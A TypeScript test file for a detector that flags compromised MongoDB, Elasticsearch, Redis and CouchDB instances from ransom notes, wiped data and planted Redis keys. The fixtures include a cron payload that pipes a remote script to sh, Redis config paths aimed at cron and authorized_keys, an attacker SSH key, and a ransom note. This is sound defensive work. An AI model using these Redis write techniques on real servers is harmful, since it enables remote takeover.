import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assessCompromise } from './compromise.js';
import { base58CheckEncode, bech32Encode } from './bitcoin.js';
import { builtinRules } from '../rules/load.js';

const ids = (r: ReturnType<typeof assessCompromise>) => r.matches.map((m) => m.ruleId).sort();

test('MongoDB with only a READ__ME_TO_RECOVER_YOUR_DATA database holding a README collection', () => {
  const btc = base58CheckEncode(0, Uint8Array.from({ length: 20 }, (_, i) => 200 - i));
  const r = assessCompromise({
    product: 'mongodb',
    namespaces: [
      { path: ['admin'], kind: 'database', count: 2 },
      { path: ['local'], kind: 'database', count: 1 },
      { path: ['READ__ME_TO_RECOVER_YOUR_DATA'], kind: 'database', count: 1 },
      { path: ['READ__ME_TO_RECOVER_YOUR_DATA', 'README'], kind: 'collection', count: 1 },
    ],
    notes: [
      `All your data is backed up. You must pay 0.015 BTC to ${btc} In 48 hours, your data will be publicly disclosed and deleted. ` +
        'After paying send mail to us: rambler+xyz@onionmail.org and we will provide a link for you to download your data.',
    ],
  });
  assert.equal(r.compromised, true);
  assert.deepEqual(ids(r), ['ransom-name-readme', 'ransom-name-recover-data', 'ransom-note-bitcoin', 'ransom-note-contact', 'ransom-note-wording', 'wiped-next-to-note']);
  const note = r.matches.find((m) => m.ruleId === 'ransom-note-bitcoin')!;
  assert.ok(!note.evidence.includes(btc), 'the Bitcoin address is masked');
  assert.ok(note.evidence.includes(btc.slice(0, 4)) && note.evidence.includes('r***@onionmail.org'), note.evidence);
  assert.equal(r.matches.find((m) => m.ruleId === 'wiped-next-to-note')!.evidence, 'no namespace other than the note');
  for (const m of r.matches) {
    assert.ok(m.evidence.length <= 300 && m.description.length > 0);
  }
});

test('a note database next to real, non-empty data is compromised but not wiped', () => {
  const r = assessCompromise({
    product: 'mongodb',
    namespaces: [
      { path: ['shop'], kind: 'database' },
      { path: ['shop', 'users'], kind: 'collection', count: 12000 },
      { path: ['PLEASE_READ_ME'], kind: 'database', count: 1 },
    ],
  });
  assert.equal(r.compromised, true);
  assert.deepEqual(ids(r), ['ransom-name-please-read']);
});

test('Mongo Lock layout: a Warning database with a Readme collection, other databases emptied', () => {
  const r = assessCompromise({
    product: 'mongodb',
    namespaces: [
      { path: ['Warning'], kind: 'database', count: 1 },
      { path: ['Warning', 'Readme'], kind: 'collection', count: 1 },
      { path: ['shop'], kind: 'database', count: 0 },
      { path: ['shop', 'users'], kind: 'collection', count: 0 },
    ],
  });
  assert.equal(r.compromised, true);
  assert.deepEqual(ids(r), ['ransom-name-readme', 'ransom-name-warning', 'wiped-next-to-note']);
  assert.equal(r.matches.find((m) => m.ruleId === 'wiped-next-to-note')!.evidence, 'all 2 other namespaces are empty');
});

test('a lone README table is only a weak sign: not compromised', () => {
  const r = assessCompromise({
    product: 'postgres',
    namespaces: [
      { path: ['docs', 'public', 'readme'], kind: 'table', count: 3 },
      { path: ['docs', 'public', 'pages'], kind: 'table', count: 40 },
    ],
  });
  assert.equal(r.compromised, false);
  assert.deepEqual(ids(r), ['ransom-name-readme']);
});

test('Meow-style Elasticsearch indices', () => {
  const r = assessCompromise({
    product: 'elasticsearch',
    namespaces: [
      { path: ['gk01juo8o3-meow'], kind: 'index', count: 0 },
      { path: ['0rc2wcpa2h-meow'], kind: 'index', count: 0 },
      { path: ['.kibana_1'], kind: 'index', count: 4 },
      { path: ['logs-2020.07'], kind: 'index', count: 0 },
    ],
  });
  assert.equal(r.compromised, true);
  assert.deepEqual(ids(r), ['meow-index', 'wiped-next-to-note']);
  assert.match(r.matches[0]!.evidence, /index "gk01juo8o3-meow", index "0rc2wcpa2h-meow"/);
  // Near misses: a human-named index that mentions meow, a too-short prefix.
  const clean = assessCompromise({ product: 'elasticsearch', namespaces: [{ path: ['cat-meow-pics'], kind: 'index', count: 9 }, { path: ['abc-meow'], kind: 'index', count: 1 }] });
  assert.equal(clean.compromised, false);
  assert.deepEqual(clean.matches, []);
});

test('Redis with backup1 holding a cron line', () => {
  const r = assessCompromise({
    product: 'redis',
    namespaces: [
      { path: ['db0'], kind: 'keyspace', count: 4 },
      ...['backup1', 'backup2', 'backup3', 'backup4'].map((k) => ({ path: ['db0', k], kind: 'key' as const })),
    ],
    redisValues: [{ key: 'backup1', value: '\n\n*/2 * * * * root cd1 -fsSL http://x/y | sh\n\n' }],
    redisConfig: { dir: '/var/spool/cron', dbfilename: 'root' },
  });
  assert.equal(r.compromised, true);
  // db0 holds exactly the four planted keys: nothing else is left, so the wiped rule fires too.
  assert.deepEqual(ids(r), ['redis-config-dbfilename', 'redis-config-dir', 'redis-cron-payload', 'redis-planted-key-names', 'wiped-next-to-note']);
  const cron = r.matches.find((m) => m.ruleId === 'redis-cron-payload')!;
  assert.equal(cron.evidence, 'key "backup1": line "*/2 * * * * root cd1 -fsSL http://x/y | sh"');
  assert.equal(r.matches.find((m) => m.ruleId === 'redis-config-dir')!.evidence, 'dir = "/var/spool/cron"');
});

test('Redis: cron schedules used by job queues are not payloads; an SSH key is weak, with crackit it is compromise', () => {
  const queue = assessCompromise({
    product: 'redis',
    redisValues: [
      { key: 'bull:mail:repeat', value: '{"cron":"*/5 * * * *","tz":"UTC"}' },
      { key: 'sched', value: '0 3 * * 1' },
    ],
  });
  assert.deepEqual(queue.matches, []);
  const key = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7' + 'x'.repeat(200) + ' root@attacker';
  const weak = assessCompromise({ product: 'redis', redisValues: [{ key: 'deploy:pubkey', value: key }] });
  assert.equal(weak.compromised, false);
  assert.deepEqual(ids(weak), ['redis-ssh-key-payload']);
  assert.match(weak.matches[0]!.evidence, /^key "deploy:pubkey": ssh-rsa key SHA256:[A-Za-z0-9+/]{43}$/);
  assert.ok(!weak.matches[0]!.evidence.includes('AAAAB3'), 'the key itself is not echoed');
  const planted = assessCompromise({ product: 'redis', namespaces: [{ path: ['db0', 'crackit'], kind: 'key' }], redisValues: [{ key: 'crackit', value: `\n\n${key}\n\n` }] });
  assert.equal(planted.compromised, true, 'two distinct weak rules');
  // Redis rules do not fire for other products.
  assert.deepEqual(assessCompromise({ product: 'mongodb', redisValues: [{ key: 'x', value: '* * * * * root sh' }] }).matches, []);
});

test('Redis INFO: dir /root/.ssh, dbfilename authorized_keys, the rogue-server module', () => {
  assert.deepEqual(ids(assessCompromise({ product: 'redis', redisConfig: { dir: '/root/.ssh' } })), ['redis-config-dir']);
  assert.deepEqual(ids(assessCompromise({ product: 'redis', redisConfig: { dir: '/etc/cron.d/' } })), ['redis-config-dir']);
  assert.deepEqual(ids(assessCompromise({ product: 'redis', redisConfig: { dbfilename: 'authorized_keys' } })), ['redis-config-dbfilename']);
  assert.deepEqual(ids(assessCompromise({ product: 'redis', redisConfig: { module: ['name=ReJSON,ver=20000', 'name=system,ver=1,api=1'] } })), ['redis-rogue-module']);
  assert.deepEqual(assessCompromise({ product: 'redis', redisConfig: { dir: '/var/lib/redis', dbfilename: 'dump.rdb' } }).matches, []);
});

test('note wording: two phrases without payment or contact are weak; no phrases, nothing', () => {
  const weak = assessCompromise({ product: 'couchdb', notes: ['Your database has been dumped. To recover it, wait for instructions.'] });
  assert.deepEqual(ids(weak), ['ransom-note-wording']);
  assert.equal(weak.compromised, false);
  const bc1 = bech32Encode(0, new Uint8Array(20).fill(9));
  assert.equal(assessCompromise({ product: 'couchdb', notes: [`Send 0.01 BTC to ${bc1}`] }).compromised, true);
  assert.equal(assessCompromise({ product: 'couchdb', notes: [`Send 0.01 BTC to ${bc1.slice(0, -1)}q`] }).compromised, false, 'bad bech32 checksum');
  assert.deepEqual(assessCompromise({ product: 'couchdb', notes: ['Release notes for version 2. Thanks for reading!'] }).matches, []);
});

test('rules carry ids, descriptions and references', () => {
  for (const r of builtinRules().ransom.rules) {
    assert.match(r.id, /^[a-z0-9-]+$/);
    assert.ok(r.description.length > 20, r.id);
  }
});
